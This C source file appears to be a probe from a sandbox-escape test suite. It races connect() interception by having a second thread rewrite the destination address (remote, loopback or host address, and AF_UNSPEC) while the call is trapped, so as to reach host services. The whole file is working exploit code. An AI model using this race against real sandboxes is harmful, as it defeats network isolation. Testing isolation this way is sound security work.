/* race_address [own]: a second thread rewrites the address while connect is trapped: remote, loopback (or the host's own address)
 * and AF_UNSPEC in turn. The port is the victim's; nothing listens there on remote, so whatever connects has reached the host. */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdatomic.h>

#include "attack.h"

static struct address moving;
static atomic_bool ended;
static uint32_t forbidden;

static void *rewrite(void *unused) {
  struct sockaddr_in *address = (struct sockaddr_in *)&moving.raw;
  volatile uint32_t *ip = &address->sin_addr.s_addr;
  volatile sa_family_t *family = &address->sin_family;
  uint32_t out = inet_addr(setting("REMOTE4")), in = forbidden;
  for (unsigned turn = 0; !ended; turn++) {
    *ip = turn & 1 ? in : out;
    *family = turn % 7 == 0 ? AF_UNSPEC : AF_INET;
    for (volatile unsigned wait = 0; wait < turn % 4096; wait++) {
    }
  }
  return unused;
}

int main(int argc, char **argv) {
  (void)argv;
  bool own = argc > 1;
  moving = address(own ? setting("HOST4") : "127.0.0.1", own ? LAN_PORT : LOOPBACK_PORT);
  forbidden = ((struct sockaddr_in *)&moving.raw)->sin_addr.s_addr;
  int plain = socket(AF_INET, SOCK_STREAM, 0);
  if (own && strcmp(try_connect(plain, &moving, false), "HOST-LAN") == 0) {
    note("open to the container anyway"); /* slirp4netns leads there */
    return finish();
  }
  close(plain);
  pthread_t thread;
  pthread_create(&thread, NULL, rewrite, NULL);
  long wanted = tries(100000), tried = 0;
  int reused = -1;
  elapsed_ms();
  for (; tried < wanted && elapsed_ms() < 150000 && !is_reached(); tried++) {
    /* Every other try goes on with a socket that has been out before. */
    if (tried % 64 == 0) {
      if (reused >= 0) close(reused);
      reused = refused_socket(AF_INET);
    }
    bool again = tried & 1;
    int fd = again ? reused : socket(AF_INET, SOCK_STREAM | (tried & 2 ? SOCK_NONBLOCK : 0), 0);
    if (connect(fd, raw(&moving), sizeof(struct sockaddr_in)) == 0 || errno == EINPROGRESS) {
      struct address peer = {.length = sizeof peer.raw};
      if (getpeername(fd, (struct sockaddr *)&peer.raw, &peer.length) == 0 && strncmp(greeting(fd), "HOST-", 5) == 0) reached();
      if (again) disconnect(fd);
    }
    if (!again) close(fd);
  }
  ended = true;
  pthread_join(thread, NULL);
  note("%ld tries", tried);
  if (tried < 100000 && tried < wanted) note("(time over)");
  return finish();
}
